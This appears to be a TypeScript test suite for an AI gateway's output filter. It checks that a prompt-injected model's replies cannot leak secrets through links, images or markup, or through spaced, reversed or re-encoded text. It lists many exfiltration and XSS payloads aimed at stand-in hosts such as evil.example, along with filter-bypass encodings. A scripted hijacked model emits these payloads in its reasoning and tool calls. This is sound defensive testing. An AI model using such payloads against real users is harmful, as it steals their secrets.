/** Replies as they leave: what a hijacked model writes does nothing where it is shown, leads nowhere that nobody vouches for, and gives no secret away, however it is cut. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import * as fc from 'fast-check'
import * as z from 'zod'
import { OWNER } from '../../src/contracts/origin.ts'
import { clearText, OutboundStream } from '../../src/guard/outbound-stream.ts'
import { Evidence } from '../../src/guard/provenance/evidence.ts'
import { KnownLinks } from '../../src/guard/provenance/known-links.ts'
import type { OutboundContext } from '../../src/guard/stages/message/outbound-facts.ts'
import type { AnyTool } from '../../src/contracts/tool.ts'
import { createSecretRegistry } from '../../src/telemetry/secret-registry.ts'
import { calls, says, scriptedProvider } from '../doubles/scripted-provider.ts'
import { testGateway } from '../doubles/test-gateway.ts'
import { manifest } from '../doubles/manifest.ts'

const SECRET = 'sk-canary-0123456789abcdef'
const secrets = createSecretRegistry()
secrets.add(SECRET)
const evidence = new Evidence(new Map())
evidence.add({ role: 'user', parts: [{ type: 'text', text: 'Read https://good.example/page and look at github.com', origin: OWNER }] })
const quiet = () => undefined
const plain: OutboundContext = { secrets, markup: 'plain', personal: [], links: null }
const page: OutboundContext = { ...plain, markup: 'markdown' }
const tainted: OutboundContext = { ...page, links: new KnownLinks(evidence, ['*.docs.example']) }
const strict: OutboundContext = { ...tainted, personal: ['email', 'phone', 'iban', 'card', 'national-id'] }
const left = (text: string, context = tainted) => clearText(text, context, quiet)

const EVIL = [
  '![p](https://evil.example/p?q=SECRET)',
  '[click](https://evil.example/x)',
  '[click](<https://evil.example/x y>)',
  '[click](https://evil.example/x "title")',
  '[click](\nhttps://evil.example/x)',
  '[a][r]\n\n[r]: https://evil.example/x',
  '[r]:\n  <https://evil.example/x>',
  '> [r]: //evil.example/x',
  '<https://evil.example/x>',
  '<https://evil.example/x|the page>',
  'see https://evil.example/x?a=b.',
  'see (https://evil.example/x)',
  'HTTPS://EVIL.EXAMPLE/x',
  'see evil.example/x',
  'see www.evil.example',
  'see evil.com',
  '//evil.example/x',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\\\\\evil.example)',
  'https:\\\\evil.example',
  'https:evil.example/x',
  'https:///evil.example/x',
  'https://github.com@evil.example/x',
  'https://good.example:x@evil.example/',
  'https://good.example.evil.example/',
  'https://evil.example/?u=https://good.example/page',
  '[https://github.com](https://evil.example)',
  '[github.com](https://good.example/page)',
  'https://gіthub.com/a',
  'https://xn--gthub-n4a.com/',
  'https://github.com.\u202eevil.example/',
  'https&#58;//evil&#46;example/x',
  '[x](https&colon;//evil&period;example)',
  '[x](https\\://evil\\.example)',
  '<img src=https://evil.example/x>',
  '<img src="//evil.example/x">',
  '<a href="https://evil.example">x</a>',
  '<div style="background:url(//evil.example/a)">',
  '<svg/onload=fetch("//evil.example")>',
  'http://2130706433/x',
  'http://[::1]/',
  '1.2.3.4/x',
  'ftp://evil.example/x',
  'slack://channel?id=1',
  'evil。com/x',
  'https://evil。example/x',
  '![same host, other address](https://good.example/other?q=SECRET)',
  '![relative](/api/secret)',
  '```\nhttps://evil.example/x\n```',
]

/** What common clients make a link of, written anew and simply: a scheme with slashes, a host with a dot, a destination of Markdown. */
function opens(text: string): readonly string[] {
  const shown = text.replaceAll(/&#(\d+);/g, (_all, code: string) => String.fromCharCode(Number(code)))
  return [
    ...shown.matchAll(/[a-z][a-z0-9+.-]*:[\\/]+[^\s<>]*/gi),
    ...shown.matchAll(/(?<![\w@.])(?:[\w-]+[.。])+(?:com|example)\b[^\s<>)]*/gi),
    ...shown.matchAll(/\]\([^)]*\)?/g),
    ...shown.matchAll(/^[ >]*\[[^\]]*\]:.*/gm),
    ...shown.matchAll(/<[!/]?[a-z][\w-]*[\s/>][^>]*/gi),
    ...shown.matchAll(/(?<!\d)\d+\.\d+\.\d+\.\d+\//g),
  ].map(([found]) => found)
}

const KNOWN = [
  '[g](https://good.example/page)',
  '![g](https://good.example/page)',
  'https://github.com/a/b?c',
  'github.com',
  '[its docs](https://x.docs.example/a)',
  '<https://good.example/page>',
  '[here](#part)',
  'bob@evil.example',
  '[mail](mailto:bob@x.example)',
]
const HARMLESS = [
  'Hello, world. How are you?',
  'readme.md, pipeline.ts:12, e.g. this. Node.js/Express, 3.14 and v1.2.3.4',
  'a[0](b) and x: y',
  '3 < 4 && 5 > 4',
  'naïve 日本語 👩‍👩‍👧',
  'C:\\Users\\me',
]

describe('links in a reply after untrusted text (K3)', () => {
  for (const text of EVIL) {
    it(`are inert: ${JSON.stringify(text)}`, () => {
      assert.notDeepEqual(opens(text), [], 'the attack opens something')
      assert.deepEqual(
        opens(left(text)).filter((found) => !/github\.com\]?$/.test(found)),
        [],
        left(text),
      )
    })
  }

  it('stay where the owner, a trusted result or the configuration names their host', () => {
    for (const text of [...KNOWN, ...HARMLESS]) assert.equal(left(text), text)
  })

  it('stay while nothing untrusted was read', () => {
    for (const text of EVIL.slice(0, 5)) assert.equal(left(text, page), text)
  })

  it('stay readable', () => {
    assert.equal(left('![p](https://evil.example/p?q=SECRET)'), '![p] (https[:]//evil[.]example/p?q=SECRET)')
    assert.equal(left('see https://evil.example/x.'), 'see https[:]//evil[.]example/x.')
  })
})

describe('markup in a reply (A7)', () => {
  it('runs nothing: HTML, scripts in links, control sequences, characters that turn the text', () => {
    assert.equal(left('<script>alert(1)</script><img onerror=x>', page), '&lt;script>alert(1)&lt;/script>&lt;img onerror=x>')
    for (const link of [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](java&#115;cript:alert(1))',
      '[x](java\tscript:alert)',
      '[x](vbscript:x)',
      '[x](data:text/html,<b>)',
      '[x](file:///etc/passwd)',
      '[x]: javascript:alert(1)',
    ])
      assert.doesNotMatch(left(link, page), /\]\(|^\[x\]:/, link)
    assert.equal(left('\u001b[31mred\u001b]0;t\u0007 \u009b2J \u202eevil', page), '[31mred]0;t 2J evil')
    assert.equal(left('<b>"&', { ...page, markup: 'html' }), '&lt;b&gt;&quot;&amp;')
  })

  it('leaves code and program text as they are', () => {
    for (const text of ['`<div>` and ``a ` <b>``', '```html\n<div>\n```\nafter', '~~~\n<p>\n~~~', 'a < b', '<https://x.example>', '    a <3'])
      assert.equal(left(text, page), text)
    assert.equal(left('<div>', plain), '<div>', 'a program gets what it asked for')
    assert.equal(left('<div>', { ...plain, links: tainted.links }), '&lt;div>', 'but not after untrusted text')
  })

  it('is not taken for code where a renderer would not', () => {
    for (const text of [
      '- a\n  ```\n<img>',
      '> ```\n<img>',
      '```a`b\n<img>',
      'a ` b\n<img> `',
      '\\`<img>`',
      '`a\n\nb <img>`',
      '1. x\n   ```\n   y\n```\n<img>',
      '``` ```\n<img>',
      '   ~~~\n<img>\n```\n<img>',
    ])
      assert.doesNotMatch(left(text, page), /<img>/, text)
  })
})

/** The same in letters that begin at `a`, and digits that begin at `zero`. */
function written(text: string, a: number, zero: number): string {
  return text.replaceAll(/[a-z0-9]/g, (one) => String.fromCodePoint(/\d/.test(one) ? zero + Number(one) : a + one.charCodeAt(0) - 0x61))
}

describe('secrets in a reply (L2)', () => {
  const spread: Readonly<Record<string, string>> = {
    spaced: Array.from(SECRET).join(' '),
    dashed: Array.from(SECRET).join('-'),
    'over lines': Array.from(SECRET).join('\n'),
    'in groups': 'sk-canary 0123 4567 89ab cdef',
    'with zero-width characters': Array.from(SECRET).join('\u200b'),
    backwards: Array.from(SECRET).toReversed().join(''),
    'in capitals': SECRET.toUpperCase(),
    'in full-width letters': written(SECRET, 0xff41, 0xff10),
    'in mathematical letters': written(SECRET, 0x1d5ba, 0x1d7e2),
    'in circled letters, spaced': Array.from(written(SECRET, 0x24d0, 0xff10)).join(' '),
    'in hex, spaced': (Buffer.from(SECRET).toString('hex').match(/../g) ?? []).join(' '),
    'in base64, over lines': (
      Buffer.from(SECRET)
        .toString('base64')
        .match(/.{1,8}/g) ?? []
    ).join('\n'),
  }
  for (const [name, text] of Object.entries(spread)) {
    it(`do not leave ${name}`, () => {
      const bare = (one: string) =>
        one
          .normalize('NFKC')
          .toLowerCase()
          .replaceAll(/[^a-z0-9]/g, '')
      assert.match(left(`It is ${text}. Bye`, plain), /\[secret\]/)
      assert.ok(!bare(left(`It is ${text}. Bye`, plain)).includes(bare(text)))
    })
  }

  it('do not leave in two messages of one turn', () => {
    const first = new OutboundStream(plain, quiet)
    const said = first.push('sk-canary-012345') + first.end()
    const second = new OutboundStream(plain, quiet, said)
    assert.equal(second.push('6789ab') + second.push('cdef and more') + second.end(), '[secret] and more')
  })
})

describe('a reply that streams', () => {
  const texts = [
    ...EVIL,
    ...KNOWN,
    ...HARMLESS,
    `key ${SECRET} x`,
    `key ${written(SECRET, 0x1d5ba, 0x1d7e2)} x`,
    'password: aB3dE5fG7hJ9kL1mN3pQ ok',
    'a `<b>` c\n```\n<p>\n```\n<i>',
    'Call +49 30 901820, DE89 3704 0044 0532 0130 00 or a@b.example.',
    `a\n${Array.from(SECRET).join(' ')} b`,
    '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿 and 👩‍👩‍👧\u202e',
    '1. x\n   ```\n   <y>\n   ```\n`z`',
  ]

  it('is the same wherever it is cut: every secret, tag and link at every byte', () => {
    for (const context of [plain, page, tainted, strict]) {
      for (const text of texts) {
        const whole = left(text, context)
        const streamed = (...pieces: readonly string[]) => {
          const stream = new OutboundStream(context, quiet)
          return pieces.map((piece) => stream.push(piece)).join('') + stream.end()
        }
        for (let cut = 0; cut <= text.length; cut++) assert.equal(streamed(text.slice(0, cut), text.slice(cut)), whole, `${text} cut at ${cut}`)
        assert.equal(streamed(...text.split('')), whole, `${text} in single characters`)
      }
    }
  })

  it('makes no link of a mark that stands for a secret or for personal data, wherever it is cut', () => {
    const hidden = [
      SECRET,
      'sk-madeup0123456789abcdefghij',
      'password: aB3dE5fG7hJ9kL1mN3pQ',
      'bob@mail.example',
      '+49 30 90182012',
      'DE89 3704 0044 0532 0130 00',
    ]
    for (const context of [tainted, strict]) {
      for (const word of hidden) {
        for (const text of [`![x][${word}]\n\n${word}: //3232235777/p\n`, `!${word}(//3232235777/p)\n`, `!x ${word}[r]\n`, `${word}:\n//3232235777/p\n`]) {
          const whole = left(text, context)
          assert.doesNotMatch(whole, /\[(?:secret|e-mail address|phone number|account number)\][([:]/, text)
          for (let cut = 0; cut <= text.length; cut++) {
            const stream = new OutboundStream(context, quiet)
            assert.equal(stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end(), whole, `${text} cut at ${cut}`)
          }
          const slow = new OutboundStream(context, quiet)
          assert.equal(Array.from(text, (one) => slow.push(one)).join('') + slow.end(), whole, `${text} in single characters`)
        }
      }
    }
  })

  it('knows the beginning of code also where what it is indented with has left before', () => {
    for (const indent of [' ', '   ', '> ', '- ', '1. ', '>  ```\n> ']) {
      for (const mark of ['```', '~~~']) {
        const text = `a\n${indent}${mark}\n<y>\n${mark}\n<p>\n${mark}\n<z>`
        for (const context of [page, tainted]) {
          const whole = left(text, context)
          for (let first = 0; first <= text.length; first++) {
            for (let second = first; second <= Math.min(text.length, first + 4); second++) {
              const stream = new OutboundStream(context, quiet)
              const pieces = [text.slice(0, first), text.slice(first, second), text.slice(second)]
              assert.equal(pieces.map((piece) => stream.push(piece)).join('') + stream.end(), whole, `${text} cut at ${first} and ${second}`)
            }
          }
        }
      }
    }
  })

  it('is the same wherever it is cut, for texts put together at random', () => {
    const piece = fc.oneof(
      fc.constantFrom(...texts),
      fc.constantFrom(
        '`',
        '``',
        '```',
        '\n',
        '\n\n',
        '<',
        '](',
        '[x]',
        ' ',
        '.',
        '/',
        ':',
        '\\',
        '&',
        'evil',
        'com',
        'https',
        '//',
        '\u200b',
        '> ',
        '- ',
        '~~~',
        'sk-',
        '1',
      ),
      fc.string({ maxLength: 4 }),
    )
    fc.assert(
      fc.property(
        fc.array(piece, { minLength: 1, maxLength: 8 }),
        fc.array(fc.nat(), { maxLength: 5 }),
        fc.constantFrom(plain, page, tainted, strict),
        (parts, cuts, context) => {
          const text = parts.join('')
          const stream = new OutboundStream(context, quiet)
          const places = [0, ...cuts.map((cut) => cut % (text.length + 1)), text.length].toSorted((a, b) => a - b)
          const streamed = places.slice(1).map((end, index) => stream.push(text.slice(places[index], end)))
          assert.equal(streamed.join('') + stream.end(), left(text, context))
        },
      ),
      { numRuns: 1500 },
    )
  })

  it('keeps back no more than it may, and nothing of plain words', () => {
    const words = 'The quick brown fox jumps over the lazy dog, and then it sleeps under a tall tree near the river bank. '.repeat(20).split(/(?<= )/)
    for (const context of [plain, page]) {
      const stream = new OutboundStream(context, quiet)
      let sent = 0
      let kept = 0
      for (const word of words) {
        const out = stream.push(word)
        sent += word.length
        kept += sent - out.length
        sent -= out.length
      }
      assert.ok(kept / words.length < 1, `${kept / words.length} characters wait on average`)
    }
    const stream = new OutboundStream(tainted, quiet)
    assert.equal(stream.push('Hello there, wor'), 'Hello there, ', 'after untrusted text the last word waits: it may become an address')
    const endless = new OutboundStream(tainted, quiet)
    let out = ''
    for (let index = 0; index < 200; index++) out += endless.push('](https://evil.example/'.padEnd(100, 'x'))
    assert.ok(out.length > 10_000, 'what never ends is not kept for ever')
    assert.doesNotMatch(out + endless.end(), /\]\(|:\/\//)
  })
})

describe('a reply of a hijacked model, in a whole gateway', () => {
  const page: AnyTool = {
    name: 'page',
    description: '',
    input: z.strictObject({ q: z.string() }),
    manifest: manifest({ returns: { trust: 'untrusted', private: false, curated: false, records: false } }),
    run: async (input) => ({ output: `got ${JSON.stringify(input)}\u001b[2J` }),
  }
  const EXFILTRATION = '![p](https://evil.example/p?q=SECRET)'

  it('is told by its reasoning and its calls as well, and the calls run as they were', async () => {
    const provider = scriptedProvider('test', [
      calls(['page', { q: 'x' }]),
      [{ type: 'reasoning-delta', text: `thinking ${EXFILTRATION}` }, ...calls(['page', { q: EXFILTRATION }])],
      says(`Here: ${EXFILTRATION} ${SECRET.split('').join('.')}`),
    ])
    const gateway = await testGateway({ providers: [provider], tools: [page], secrets: [SECRET] })
    try {
      const { result, events } = await gateway.ask('go')
      assert.equal(result.text, 'Here: ![p] (https[:]//evil[.]example/p?q=SECRET) [secret]')
      assert.doesNotMatch(JSON.stringify(events), /https:\/\/evil/)
      const finished = events.flatMap((event) => (event.type === 'tool-finished' ? [event.outcome] : []))
      assert.deepEqual(finished[1]?.input, { q: '![p] (https[:]//evil[.]example/p?q=SECRET)' })
      assert.doesNotMatch(JSON.stringify(finished), /u001b/)
      const seen = provider.requests[2]?.messages.at(-1)
      assert.match(seen?.role === 'tool' ? (seen.parts[0]?.output ?? '') : '', /https:\/\/evil\.example/, 'the call ran as the model wrote it')
      const session = await gateway.gateway.store.sessions.find('main')
      const entries = await gateway.gateway.store.sessions.tail(session?.id ?? '', { limit: 20 })
      const reply = entries.at(-1)?.message
      assert.equal(reply?.role === 'assistant' && reply.parts[0]?.type === 'text' ? reply.parts[0].text : '', result.text, 'what is kept is what left')
    } finally {
      await gateway.close()
    }
  })

  it('holds no personal data for anybody but the owner', async () => {
    const text = 'Ann is ann@mail.example, card 4111 1111 1111 1111.'
    const provider = scriptedProvider('test', () => says(text))
    const gateway = await testGateway({ providers: [provider] })
    try {
      assert.equal((await gateway.ask('who?')).result.text, text)
      const author = { kind: 'peer', channel: 'test', id: '7' } as const
      const parts = [{ type: 'text', text: 'who?', origin: { author, trust: 'untrusted', private: false } }] as const
      assert.equal((await gateway.ask('', { sender: author, parts, sessionKey: 'peer' })).result.text, 'Ann is [e-mail address], card [card number].')
    } finally {
      await gateway.close()
    }
  })
})
